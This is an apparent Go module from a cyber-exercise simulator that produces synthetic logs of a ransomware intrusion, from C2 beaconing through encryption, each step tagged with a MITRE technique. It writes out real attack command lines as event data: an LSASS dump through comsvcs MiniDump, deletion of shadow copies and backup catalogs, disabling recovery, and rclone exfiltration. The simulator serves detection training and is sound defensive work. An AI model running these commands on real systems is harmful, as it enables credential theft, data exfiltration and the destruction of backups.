// SPDX-FileCopyrightText: 2026 The Citywall Authors
// SPDX-License-Identifier: Apache-2.0

package exercise

import (
	"fmt"
	"math/rand/v2"
	"time"

	"citywall/exercise/act"
	"citywall/exercise/city"
)

// channel is a control channel: a host that calls an outside address at regular
// intervals.
type channel struct {
	to     act.End
	port   uint16
	every  time.Duration
	jitter float64 // share of every
}

func (g *stage) newChannel() channel {
	port := uint16(443)
	if g.r.IntN(3) == 0 {
		port = 8443
	}
	ch := channel{to: act.End{Addr: g.outsider()}, port: port, every: seconds(45 + 45*g.r.Float64()), jitter: 0.12}
	if g.opt.has(StealthSlow) {
		ch.every, ch.jitter = 30*ch.every, 0.8
	}
	return ch
}

// beacon lets p call from one moment to another. proc is looked up when the
// time comes: the process starts in an earlier deed.
func (g *stage) beacon(from, until time.Time, h *city.Host, ch channel, proc *act.Proc) {
	first := true
	for t := from; t.Before(until); t = t.Add(ch.every + time.Duration((g.r.Float64()-0.5)*ch.jitter*float64(ch.every))) {
		start := first
		first = false
		g.at(t, func(r *rand.Rand, t time.Time) {
			c := act.Conn{Src: act.On(h), Dst: ch.to, Port: ch.port, Cert: "self signed certificate", Out: 1400 + r.Int64N(900), In: 600 + r.Int64N(700), For: time.Duration(400+r.IntN(900)) * time.Millisecond, By: proc}
			if r.IntN(12) == 0 { // a task or a result
				c.Out, c.In, c.For = c.Out+r.Int64N(90_000), c.In+r.Int64N(400_000), c.For+seconds(4)
			}
			done, seen := g.s.TLS(r, t, c)
			if start {
				g.s.Alert(t.Add(300*time.Millisecond), done, 9000117, 1, "CITYIDS Self-signed certificate of a remote-control framework", "Malware Command and Control Activity Detected")
			}
			g.hop(seen, act.On(h), ch.to, ch.port, nil, "c2", c2Technique(ch.port)) // the first on record is the move
		})
	}
}

func c2Technique(port uint16) string {
	if port == 443 {
		return "T1071.001"
	}
	return "T1571"
}

// own is a program of the intruder's without a name that anybody knows.
func own(r *rand.Rand, folder string) string {
	return fmt.Sprintf(`%s\%c%c%04d.exe`, folder, 'a'+r.IntN(26), 'a'+r.IntN(26), r.IntN(10000))
}

// dump reads the memory of LSASS into a file.
func (g *stage) dump(r *rand.Rand, t time.Time, who act.Actor, parent act.Proc) {
	lsass := act.Running(act.System(who.Host), act.Lsass)
	if g.opt.has(StealthTools) {
		tool := own(r, `C:\ProgramData`)
		g.s.File(r, t, parent, tool)
		p, _ := g.s.Start(r, t.Add(3*time.Second), who, parent, tool, tool)
		g.step(g.s.Open(r, t.Add(3300*time.Millisecond), p, lsass, "0x1410", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|`+tool+`+1a2f`), who.Host, "credential", "T1003.001")
		return
	}
	file := fmt.Sprintf(`C:\Windows\Temp\%s.dmp`, "d"+fmt.Sprint(1000+r.IntN(9000)))
	p, seen := g.s.Start(r, t, who, parent, `C:\Windows\System32\rundll32.exe`, fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, 620+r.IntN(60)*4, file))
	g.s.Open(r, t.Add(300*time.Millisecond), p, lsass, "0x1fffff",
		`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+6a3e|C:\Windows\System32\comsvcs.dll+3a0f1|C:\Windows\System32\rundll32.exe+3b2f`)
	g.s.File(r, t.Add(900*time.Millisecond), p, file)
	g.step(seen, who.Host, "credential", "T1003.001")
}

// look is the usual first look around from a shell.
func (g *stage) look(r *rand.Rand, t time.Time, who act.Actor, shell act.Proc, commands ...string) {
	if g.opt.has(StealthTools) {
		tool := own(r, `C:\ProgramData`)
		g.s.File(r, t, shell, tool)
		_, seen := g.s.Start(r, t.Add(4*time.Second), who, shell, tool, tool+" -a")
		g.step(seen, who.Host, "discovery", "T1033")
		return
	}
	for i, c := range commands {
		at := t.Add(time.Duration(i)*23*time.Second + time.Duration(r.IntN(9000))*time.Millisecond)
		_, seen := g.s.Start(r, at, who, shell, `C:\Windows\System32\`+firstWord(c)+`.exe`, c)
		if i == 0 {
			g.step(seen, who.Host, "discovery", "T1033")
		}
	}
}

func firstWord(s string) string {
	for i := range s {
		if s[i] == ' ' {
			return s[:i]
		}
	}
	return s
}

// knock tries ports of machines from inside.
func (g *stage) knock(r *rand.Rand, t time.Time, src *city.Host, targets []*city.Host, ports ...uint16) {
	var seen act.Seen
	pause := time.Duration(0)
	if g.opt.has(StealthSlow) {
		targets, ports, pause = targets[:min(len(targets), 5)], ports[:1], 20*time.Minute
	}
	for _, h := range targets {
		if h == src {
			continue
		}
		t = t.Add(pause)
		for _, port := range ports {
			state := "REJ"
			switch {
			case port == 445 || port == 135, port == 3389 && h.Owner == nil, port == 5985 && h.Owner == nil:
				state = "RSTO"
			case r.IntN(3) == 0:
				state = "S0"
			}
			_, at := g.s.Connect(r, t, act.Conn{Src: act.On(src), Dst: act.On(h), Port: port, State: state, For: 3 * time.Millisecond})
			if seen.IsZero() {
				seen = at
			}
			t = t.Add(time.Duration(15+r.IntN(60)) * time.Millisecond)
		}
	}
	g.step(seen, src, "discovery", "T1046")
}

// blind ends the antivirus through a signed driver with a hole.
func (g *stage) blind(r *rand.Rand, t time.Time, who act.Actor, parent act.Proc) {
	s, h := g.s, who.Host
	image, driver, name, signer := `C:\Users\Public\av-1m.exe`, `C:\Users\Public\zam64.sys`, "ZammOcide", "Zemana Ltd."
	if g.opt.has(StealthTools) {
		image = own(r, `C:\ProgramData`)
		driver, name, signer = image[:len(image)-4]+".sys", "hwmon"+image[len(image)-8:len(image)-4], "Hwmon Systems Co., Ltd."
	}
	tool, _ := s.Start(r, t, who, parent, image, image)
	s.File(r, t.Add(400*time.Millisecond), tool, driver)
	seen := s.InstallService(r, t.Add(900*time.Millisecond), who, name, driver, true)
	s.Driver(r, t.Add(1100*time.Millisecond), h, driver, signer)
	s.End(r, t.Add(2*time.Second), act.Running(act.System(h), `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`))
	s.ServiceState(r, t.Add(2200*time.Millisecond), h, "Microsoft Defender Antivirus Service", "stopped")
	s.DefenderOff(r, t.Add(2300*time.Millisecond), h)
	g.step(seen, h, "evasion", "T1562.001")
}

// cripple destroys the means to recover on one host.
func (g *stage) cripple(r *rand.Rand, t time.Time, who act.Actor, parent act.Proc) act.Seen {
	if g.opt.has(StealthTools) { // through an interface of the system, which leaves no command
		return g.s.ServiceState(r, t, who.Host, "Microsoft Software Shadow Copy Provider", "running")
	}
	shell, _ := g.s.Start(r, t, who, parent, act.Cmd, `cmd.exe /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no`)
	_, seen := g.s.Start(r, t.Add(90*time.Millisecond), who, shell, `C:\Windows\System32\vssadmin.exe`, "vssadmin  delete shadows /all /quiet")
	g.s.Start(r, t.Add(700*time.Millisecond), who, shell, `C:\Windows\System32\bcdedit.exe`, "bcdedit  /set {default} recoveryenabled no")
	g.step(seen, who.Host, "inhibit", "T1490")
	return seen
}

// kit is what the encrypter leaves.
type kit struct {
	extension, note string
	program         string // file that encrypts
}

// encrypt is the encryption of one host by p: shadow copies, files, notes. It
// begins at t; files times speed per second.
func (g *stage) encrypt(r *rand.Rand, t time.Time, p act.Proc, k kit, files int, dirs []string) {
	g.cripple(r, t, p.Actor, p)
	t = t.Add(1500 * time.Millisecond)
	step := time.Duration(25+r.IntN(60)) * time.Millisecond
	noted := map[string]bool{}
	for i := range files {
		dir := dirs[i*len(dirs)/files]
		name := fmt.Sprintf(`%s\%s-%d.%s`, dir, words[r.IntN(len(words))], i, kinds[r.IntN(len(kinds))])
		seen := g.s.File(r, t, p, name+k.extension)
		if i == 0 {
			g.anchor(seen, p.Host)
		}
		if i%4 == 0 {
			g.s.Delete(r, t.Add(4*time.Millisecond), p, name)
		}
		if !noted[dir] {
			noted[dir] = true
			seen := g.s.File(r, t.Add(8*time.Millisecond), p, dir+`\`+k.note)
			if len(noted) == 1 {
				g.step(seen, p.Host, "note", "T1486")
			}
		}
		t = t.Add(step + time.Duration(r.IntN(20))*time.Millisecond)
	}
	if t.After(g.end) {
		g.end = t
	}
}

var (
	words = []string{"budget", "minutes", "roster", "report", "plan", "survey", "letter", "notice", "contract", "inventory", "schedule", "scan"}
	kinds = []string{"docx", "xlsx", "pdf", "pptx", "jpg", "txt", "mdb", "csv"}
)

// desktop lists the folders of a user's machine.
func desktop(h *city.Host) []string {
	u := "Public"
	if h.Owner != nil {
		u = h.Owner.Name
	}
	return []string{`C:\Users\` + u + `\Documents`, `C:\Users\` + u + `\Desktop`, `C:\Users\` + u + `\Pictures`}
}

// volumes lists the folders of a server.
func volumes(h *city.Host) []string {
	return []string{`D:\Data`, `D:\Data\archive`, `D:\Share\public`, `D:\Share\forms`, `E:\Apps\` + h.Key()}
}

// sysmonHosts keeps those of list on which files are seen.
func sysmonHosts(list []*city.Host) []*city.Host {
	var out []*city.Host
	for _, h := range list {
		if h.Sysmon && h.Windows() {
			out = append(out, h)
		}
	}
	return out
}

// exfiltrate sends a file server's data to an outside address with a copying
// tool.
func (g *stage) exfiltrate(r *rand.Rand, t time.Time, p act.Proc, vault act.End) {
	h := p.Host
	tool := `C:\ProgramData\Temp\rclone.exe`
	command := tool + ` copy D:\Share remote:backup --transfers 8 --no-check-certificate`
	if g.opt.has(StealthTools) {
		tool = own(r, `C:\ProgramData\Temp`)
		command = tool + ` D:\Share`
	}
	g.s.File(r, t, p, tool)
	copying, seen := g.s.Start(r, t.Add(4*time.Second), act.System(h), p, tool, command)
	g.step(seen, h, "exfiltration", "T1567.002")
	t = t.Add(9 * time.Second)
	name := "files." + []string{"sharebox", "upspace", "dropnest"}[r.IntN(3)] + ".example"
	g.s.Resolve(r, t, h, name, vault.Addr)
	g.s.Asked(r, t, copying, name, vault.Addr)
	t = t.Add(60 * time.Millisecond)
	for i := range 3 + r.IntN(4) {
		_, seen := g.s.TLS(r, t.Add(time.Duration(i)*7*time.Second), act.Conn{Src: act.On(h), Dst: vault, Name: name, Out: 1_500_000_000 + r.Int64N(3_500_000_000), In: 9_000_000 + r.Int64N(4_000_000), For: time.Duration(14+r.IntN(20)) * time.Minute, By: &copying})
		g.hop(seen, act.On(h), vault, 443, nil, "exfiltration", "T1567.002")
	}
}

// wipeBackup reaches a backup server by WinRM and destroys what it keeps.
func (g *stage) wipeBackup(r *rand.Rand, t time.Time, m act.Remote) (act.Proc, act.Seen) {
	host, seen := g.s.RemoteShell(r, t, m)
	if g.opt.has(StealthTools) {
		tool := own(r, `C:\ProgramData`)
		g.s.File(r, t.Add(10*time.Second), host, tool)
		p, _ := g.s.Start(r, t.Add(20*time.Second), host.Actor, host, tool, tool)
		g.s.ServiceState(r, t.Add(24*time.Second), m.Dst, "Veeam Backup Service", "stopped")
		g.step(g.emptied(r, t.Add(50*time.Second), p), m.Dst, "inhibit", "T1490")
		return host, seen
	}
	shell, _ := g.s.Start(r, t.Add(20*time.Second), host.Actor, host, act.Cmd, `"C:\Windows\system32\cmd.exe" /c net stop "Veeam Backup Service" /y`)
	g.s.Start(r, t.Add(20200*time.Millisecond), host.Actor, shell, `C:\Windows\System32\net.exe`, `net  stop "Veeam Backup Service" /y`)
	g.s.ServiceState(r, t.Add(24*time.Second), m.Dst, "Veeam Backup Service", "stopped")
	_, wiped := g.s.Start(r, t.Add(31*time.Second), host.Actor, host, `C:\Windows\System32\wbadmin.exe`, `wbadmin.exe delete catalog -quiet`)
	g.s.Start(r, t.Add(36*time.Second), host.Actor, host, `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`)
	g.emptied(r, t.Add(50*time.Second), host)
	g.step(wiped, m.Dst, "inhibit", "T1490")
	return host, seen
}

// emptied deletes the archives of a backup server.
func (g *stage) emptied(r *rand.Rand, t time.Time, p act.Proc) act.Seen {
	var f act.Seen
	for i := range 6 {
		seen := g.s.Delete(r, t.Add(time.Duration(3*i)*time.Second), p, fmt.Sprintf(`E:\Vault\full-%d.vbk`, 20260101+i))
		if i == 0 {
			f = seen
		}
	}
	return f
}
